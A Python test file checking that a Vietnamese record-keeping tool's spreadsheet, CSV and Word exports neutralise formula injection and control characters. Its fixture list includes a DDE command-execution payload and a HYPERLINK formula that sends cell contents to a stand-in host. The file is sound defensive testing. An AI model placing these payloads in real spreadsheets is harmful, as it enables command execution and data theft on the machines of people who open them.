"""Every spreadsheet and CSV file the tool writes is safe to open: no text becomes
a live formula, and no stored text makes a writer fail; our own exports read
back exactly."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from graph.io.cells import FORMULA_STARTS, from_csv, table_workbook, to_csv
from graph.io.documents.excel import write_xlsx
from graph.io.documents.render import appendix
from graph.io.documents.word import write_docx
from graph.io.score_sheets import write_score_template
from graph.io.tables import export, import_files
from graph.models import Achievement, Dataset, Target, Unit, UnitKind
from graph.store.embedded import EmbeddedStore
from planner.scoring.export import write_results
from planner.scoring.round import scoring_round
from tests.examples import examples

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1, "bấm vào đây")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=quoted already",
    "'",
    "#N/A",
]


def formulas_in(workbook: bytes) -> list[str]:
    """The formula cells of a workbook, read from its XML as a spreadsheet would."""
    found = []
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[\s>/]", archive.read(name)):
                found.append(name)
    book = load_workbook(io.BytesIO(workbook))  # formulas as formulas, not cached values
    for sheet in book.worksheets:
        found += [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return found


def hostile_record() -> Dataset:
    units = [
        Unit(id=f"don-vi-{i}", name=name, kind="ward", aliases=(name + " cũ",))
        for i, name in enumerate(HOSTILE)
    ]
    achievements = [
        Achievement(holder=unit.id, award="BK_TP", year=2019, note=name, decision_no=name)
        for unit, name in zip(units, HOSTILE, strict=True)
    ]
    return Dataset(units=units, achievements=achievements)


def reimported(tmp_path, paths) -> Dataset:
    store = EmbeddedStore(tmp_path / "again.json")
    import_files(store, paths)
    return store.snapshot()


# the record export -----------------------------------------------------------------


def test_the_record_as_excel_holds_no_formula_and_reads_back_exactly(tmp_path):
    data = hostile_record()
    [path] = export(data, "xlsx", tmp_path / "khencao.xlsx")
    assert formulas_in(path.read_bytes()) == []
    sheet = load_workbook(path)["units"]
    assert [c.value for c in sheet["B"][1:]] == HOSTILE  # the text itself, unchanged
    back = reimported(tmp_path, [path])
    assert back.units == data.units and back.achievements == data.achievements


def test_the_record_as_csv_starts_no_cell_with_a_formula_and_reads_back_exactly(tmp_path):
    data = hostile_record()
    paths = export(data, "csv", tmp_path / "csv")
    for path in paths:
        with path.open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
        # every field quoted, so that Excel splitting on ";" still sees one cell
        assert all(line.startswith('"') for line in path.read_text("utf-8").splitlines())
    back = reimported(tmp_path, paths)
    assert back.units == data.units and back.achievements == data.achievements


def test_control_characters_in_stored_text_do_not_stop_the_excel_export(tmp_path):
    # Built without validation: a store written before such text was refused.
    unit = Unit.model_construct(
        id="phuong-a", name="Phường\x00A\x07\x1b", kind=UnitKind.WARD, aliases=(), lineage=()
    )
    [path] = export(Dataset(units=[unit]), "xlsx", tmp_path / "khencao.xlsx")
    assert load_workbook(path)["units"]["B2"].value == "Phường\ufffdA\ufffd\ufffd"


# scoring ---------------------------------------------------------------------------


@pytest.fixture
def hostile_round(longbien):
    """The 2020 ward round, one ward renamed as a formula."""
    units = [
        u.model_copy(update={"name": HOSTILE[0]}) if u.id == "phuong-bo-de" else u
        for u in longbien.units
    ]
    return scoring_round(longbien.model_copy(update={"units": units}), 2020), units


def test_the_score_template_mailed_to_focal_units_holds_no_formula(hostile_round, tmp_path):
    scoring, units = hostile_round
    path = write_score_template(tmp_path / "mau.xlsx", scoring, units)
    assert formulas_in(path.read_bytes()) == []
    wards = [c.value for c in load_workbook(path).worksheets[0]["B"][2:]]
    assert HOSTILE[0] in wards


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_the_results_table_holds_no_formula(hostile_round, tmp_path, suffix):
    scoring, _ = hostile_round
    path = write_results(tmp_path / f"ket-qua{suffix}", scoring, "vi")
    if suffix == ".xlsx":
        assert formulas_in(path.read_bytes()) == []
        return
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + HOSTILE[0] in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


# documents -------------------------------------------------------------------------


def hostile_roadmap(longbien) -> Dataset:
    units = [
        u.model_copy(update={"name": HOSTILE[0]}) if u.id == "phong-y-te" else u
        for u in longbien.units
    ]
    targets = [
        Target.model_construct(**{**t.__dict__, "note": "@SUM(1)\x07\x00"})
        if t.holder == "phong-y-te"
        else t
        for t in longbien.targets
    ]
    return longbien.model_copy(update={"units": units, "targets": targets})


def test_the_pl5_roadmap_as_excel_holds_no_formula_and_survives_control_characters(
    longbien, tmp_path
):
    document = appendix("roadmap", hostile_roadmap(longbien), year=2020)
    buffer = io.BytesIO()
    write_xlsx([document], buffer)
    assert formulas_in(buffer.getvalue()) == []
    texts = [
        str(c.value)
        for row in load_workbook(buffer).worksheets[0].iter_rows()
        for c in row
        if c.value
    ]
    assert any(HOSTILE[0] in t for t in texts)
    assert any("@SUM(1)\ufffd\ufffd" in t for t in texts)


def test_the_pl5_roadmap_as_word_survives_control_characters(longbien, tmp_path):
    document = appendix("roadmap", hostile_roadmap(longbien), year=2020)
    buffer = io.BytesIO()
    write_docx(document, buffer)
    text = "\n".join(
        cell.text for table in Document(buffer).tables for row in table.rows for cell in row.cells
    )
    assert "@SUM(1)\ufffd\ufffd" in text


def test_a_table_for_download_keeps_text_as_text():
    workbook = table_workbook("lo-trinh", ["Đơn vị", "TT"], [[HOSTILE[0], 1], [HOSTILE[4], 2]])
    assert formulas_in(workbook) == []
    rows = list(load_workbook(io.BytesIO(workbook)).active.iter_rows(values_only=True))
    assert rows == [("Đơn vị", "TT"), (HOSTILE[0], 1), (HOSTILE[4], 2)]


# the CSV escape itself -------------------------------------------------------------


@settings(derandomize=True, max_examples=examples(300))
@given(st.text())
def test_the_csv_escape_is_undone_exactly_and_leaves_no_formula(text):
    written = to_csv(text)
    assert from_csv(written) == text
    assert not written.startswith(FORMULA_STARTS)


def test_an_apostrophe_a_person_typed_before_a_word_is_kept():
    assert from_csv("'Phường") == "'Phường"
    assert from_csv("''=x") == "'=x"
